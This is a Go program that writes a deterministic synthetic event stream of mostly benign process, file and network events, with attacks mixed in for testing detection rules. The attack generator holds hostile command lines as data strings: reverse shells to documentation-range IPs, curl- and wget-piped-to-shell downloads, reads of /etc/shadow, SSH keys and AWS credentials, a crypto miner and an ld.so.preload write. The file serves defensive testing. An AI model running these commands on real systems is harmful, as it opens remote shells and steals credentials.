// Command gen writes the example event stream, examples/events.jsonl:
//
//	go run ./examples/gen > examples/events.jsonl
//
// The stream is a deterministic function of the fixed seed: a few thousand
// mostly benign process, file, network and credential events from a small
// fleet, with the attacks the example rules detect mixed in at fixed odds,
// and a handful of deliberately malformed lines. Field keys are schema
// names, except on every seventh event, which uses numeric ids (both forms
// are accepted under a schema).
package main

import (
	"bufio"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"strconv"
	"strings"
)

const (
	seed      = 20260101
	numEvents = 3000

	// wallStart is 2026-01-01T00:00:00Z in nanoseconds since the epoch.
	wallStart = 1767225600000000000
	// markerWall is the ts_wall of event 1, an exact 64-bit value that
	// float64 cannot hold; it must reach the output unchanged.
	markerWall = 1767225600002742581
	markerLine = 1
)

// ids mirrors examples/schema.json.
var ids = map[string]int{
	"exe": 1, "pid": 2, "name": 3, "interactive": 4, "uid": 5, "cmdline": 6, "parent_exe": 7,
	"ppid": 8, "euid": 9, "file_path": 10, "file_write": 11, "remote_addr": 12, "remote_port": 13,
	"bytes_sent": 14, "cwd": 15, "exe_sha256": 16, "cpu_load": 17,
}

// field is one key/value pair; events keep fields in insertion order so
// the output does not depend on map iteration.
type field struct {
	name  string
	value any // string, int64, uint64, float64, bool or []byte
}

type event struct {
	typ    int
	fields []field
}

func (e *event) add(name string, v any) { e.fields = append(e.fields, field{name, v}) }

var (
	benignExes = []string{
		"/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", "/usr/bin/python3", "/usr/bin/git",
		"/usr/bin/ssh", "/usr/sbin/cron", "/usr/bin/vim", "/usr/bin/make", "/usr/bin/go",
		"/bin/bash", "/usr/bin/find", "/usr/bin/tar", "/usr/bin/rsync", "/usr/sbin/sshd",
	}
	benignParents = []string{"/bin/bash", "/usr/sbin/sshd", "/usr/sbin/cron", "/usr/lib/systemd/systemd", "/usr/bin/tmux"}
	benignFiles   = []string{
		"/etc/passwd", "/etc/hosts", "/var/log/syslog", "/home/alice/notes.txt", "/usr/lib/x86_64-linux-gnu/libc.so.6",
		"/etc/ld.so.cache", "/home/bob/.ssh/id_ed25519.pub", "/proc/self/status", "/etc/resolv.conf", "/tmp/build.log",
	}
	benignHosts = []string{"10.0.0.2", "10.0.0.53", "140.82.112.3", "151.101.1.69", "192.168.1.10"}
	benignPorts = []int64{443, 80, 53, 22, 5432, 8080}
	users       = []int64{0, 1000, 1001, 33, 999}
	helpers     = []string{"/usr/bin/sudo", "/usr/bin/su", "/usr/bin/passwd"}
)

func base(p string) string { return p[strings.LastIndexByte(p, '/')+1:] }

// attack returns one malicious event of kind k.
func attack(r *rand.Rand, k int, pid int64) event {
	uid := int64(1000 + r.IntN(3))
	switch k {
	case 0: // the spec's example: a dropped script in /tmp
		e := event{typ: 1}
		exe := []string{"/tmp/malicious.sh", "/tmp/.x/update", "/home/alice/install.sh"}[r.IntN(3)]
		e.add("exe", exe)
		e.add("pid", pid)
		e.add("name", base(exe))
		e.add("uid", uid)
		e.add("cmdline", exe)
		e.add("parent_exe", "/bin/bash")
		return e
	case 1: // execution from /dev/shm
		e := event{typ: 1}
		exe := []string{"/dev/shm/.kworker", "/var/tmp/payload"}[r.IntN(2)]
		e.add("exe", exe)
		e.add("pid", pid)
		e.add("name", base(exe))
		e.add("interactive", false)
		e.add("uid", uid)
		e.add("cmdline", exe+" --daemon")
		return e
	case 2: // reverse shell command lines
		e := event{typ: 1}
		cmd := []string{
			"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
			"nc -e /bin/sh 198.51.100.23 9001",
			`python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",1337))`,
		}[r.IntN(3)]
		exe := map[byte]string{'b': "/bin/bash", 'n': "/usr/bin/nc", 'p': "/usr/bin/python3"}[cmd[0]]
		e.add("exe", exe)
		e.add("pid", pid)
		e.add("name", base(exe))
		e.add("uid", uid)
		e.add("cmdline", cmd)
		e.add("parent_exe", "/usr/sbin/nginx")
		return e
	case 3: // curl | sh
		e := event{typ: 1}
		e.add("exe", "/bin/sh")
		e.add("pid", pid)
		e.add("name", "sh")
		e.add("uid", uid)
		e.add("cmdline", []string{"sh -c curl -fsSL http://203.0.113.9/i.sh | sh", "sh -c wget -qO- http://198.51.100.4/x | sudo bash"}[r.IntN(2)])
		e.add("parent_exe", "/bin/bash")
		return e
	case 4: // credential reads
		e := event{typ: 2}
		exe := []string{"/usr/bin/cat", "/usr/bin/python3", "/tmp/.x/update"}[r.IntN(3)]
		e.add("exe", exe)
		e.add("pid", pid)
		e.add("name", base(exe))
		e.add("uid", uid)
		e.add("file_path", []string{"/etc/shadow", "/root/.ssh/id_rsa", "/home/alice/.ssh/id_ed25519", "/home/bob/.aws/credentials"}[r.IntN(4)])
		e.add("file_write", false)
		return e
	case 5: // setuid to root without a helper
		e := event{typ: 4}
		e.add("exe", []string{"/tmp/.x/update", "/usr/local/bin/backup"}[r.IntN(2)])
		e.add("pid", pid)
		e.add("name", "update")
		e.add("uid", uid)
		e.add("euid", int64(0))
		e.add("parent_exe", "/bin/bash")
		return e
	case 6: // miner
		e := event{typ: 3}
		e.add("exe", "/var/tmp/xmrig")
		e.add("pid", pid)
		e.add("name", "xmrig")
		e.add("uid", uid)
		e.add("remote_addr", "198.51.100.77")
		e.add("remote_port", int64(3333))
		e.add("bytes_sent", uint64(r.IntN(1<<20)))
		e.add("cpu_load", 0.9+float64(r.IntN(10))/100)
		return e
	case 7: // ld.so.preload
		e := event{typ: 2}
		e.add("exe", "/usr/bin/tee")
		e.add("pid", pid)
		e.add("name", "tee")
		e.add("uid", int64(0))
		e.add("file_path", "/etc/ld.so.preload")
		e.add("file_write", true)
		return e
	default: // shell connecting to 4444
		e := event{typ: 3}
		e.add("exe", "/bin/bash")
		e.add("pid", pid)
		e.add("name", "bash")
		e.add("uid", uid)
		e.add("remote_addr", "203.0.113.7")
		e.add("remote_port", int64(4444))
		e.add("bytes_sent", uint64(r.IntN(4096)))
		e.add("cpu_load", 0.01)
		return e
	}
}

func benign(r *rand.Rand, pid int64) event {
	uid := users[r.IntN(len(users))]
	exe := benignExes[r.IntN(len(benignExes))]
	switch r.IntN(10) {
	case 0, 1, 2, 3: // exec
		e := event{typ: 1}
		e.add("exe", exe)
		e.add("pid", pid)
		e.add("name", base(exe))
		e.add("interactive", r.IntN(2) == 0)
		e.add("uid", uid)
		e.add("euid", uid)
		e.add("cmdline", base(exe)+" "+[]string{"-la", "status", "--version", "main.go", "-r /srv"}[r.IntN(5)])
		e.add("parent_exe", benignParents[r.IntN(len(benignParents))])
		e.add("ppid", pid-int64(1+r.IntN(50)))
		e.add("cwd", []string{"/", "/home/alice", "/srv/app", "/root"}[r.IntN(4)])
		var sum [32]byte
		for i := range sum {
			sum[i] = byte(r.IntN(256))
		}
		e.add("exe_sha256", sum[:])
		return e
	case 4, 5, 6: // file open
		e := event{typ: 2}
		e.add("exe", exe)
		e.add("pid", pid)
		e.add("name", base(exe))
		e.add("uid", uid)
		e.add("file_path", benignFiles[r.IntN(len(benignFiles))])
		e.add("file_write", r.IntN(4) == 0)
		return e
	case 7, 8: // network
		e := event{typ: 3}
		e.add("exe", exe)
		e.add("pid", pid)
		e.add("name", base(exe))
		e.add("uid", uid)
		e.add("remote_addr", benignHosts[r.IntN(len(benignHosts))])
		e.add("remote_port", benignPorts[r.IntN(len(benignPorts))])
		// Some transfers are larger than int64 can count, to exercise u64.
		e.add("bytes_sent", uint64(r.IntN(1<<30))<<uint(r.IntN(34)))
		e.add("cpu_load", float64(r.IntN(1000))/1000)
		return e
	default: // a legitimate setuid helper
		e := event{typ: 4}
		e.add("exe", helpers[r.IntN(len(helpers))])
		e.add("pid", pid)
		e.add("name", "sudo")
		e.add("uid", int64(1000))
		e.add("euid", int64(0))
		e.add("parent_exe", "/bin/bash")
		return e
	}
}

// malformed lines, written at fixed line numbers.
var malformed = map[int]string{
	101:  `{"event_type":1,"ts_mono":5,"fields":{"exe":"/tmp/x"`,
	777:  `{"event_type":1,"fields":{"pid":"not a number"}}`,
	1500: `{"event_type":3,"fields":{"no_such_field":1}}`,
	2222: `this is not JSON`,
	2999: `{"event_type":1,"ts_wall":-5,"fields":{}}`,
}

func main() {
	w := bufio.NewWriter(os.Stdout)
	generate(w)
	if err := w.Flush(); err != nil {
		fmt.Fprintln(os.Stderr, "gen:", err)
		os.Exit(1)
	}
}

// generate writes the whole stream to w.
func generate(w *bufio.Writer) {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))

	wall := uint64(wallStart)
	mono := uint64(1_000_000_000)
	pid := int64(4000)
	for line := range numEvents {
		if m, ok := malformed[line]; ok {
			fmt.Fprintln(w, m)
			continue
		}
		wall += uint64(100_000 + r.IntN(2_000_000))
		mono += uint64(100_000 + r.IntN(2_000_000))
		pid += int64(1 + r.IntN(7))
		var e event
		if line == markerLine {
			wall = markerWall
			e = attack(r, 0, pid)
		} else if r.IntN(40) == 0 {
			e = attack(r, r.IntN(9), pid)
		} else {
			e = benign(r, pid)
		}
		entity := uint64(0x5eed0000)<<32 | uint64(pid)
		writeEvent(w, &e, mono, wall, entity, line%7 == 0)
	}
}

func writeEvent(w *bufio.Writer, e *event, mono, wall, entity uint64, numericKeys bool) {
	fmt.Fprintf(w, `{"event_type":%d,"ts_mono":%d,"ts_wall":%d,"entity_key":%d,"fields":{`, e.typ, mono, wall, entity)
	for i, f := range e.fields {
		if i > 0 {
			w.WriteByte(',')
		}
		key := f.name
		if numericKeys {
			key = strconv.Itoa(ids[f.name])
		}
		k, _ := json.Marshal(key)
		w.Write(k)
		w.WriteByte(':')
		switch v := f.value.(type) {
		case []byte:
			fmt.Fprintf(w, "%q", base64.StdEncoding.EncodeToString(v))
		case float64:
			s := strconv.FormatFloat(v, 'f', -1, 64)
			if !strings.ContainsAny(s, ".e") {
				s += ".0"
			}
			w.WriteString(s)
		default:
			b, err := json.Marshal(v)
			if err != nil {
				panic(err)
			}
			w.Write(b)
		}
	}
	w.WriteString("}}\n")
}
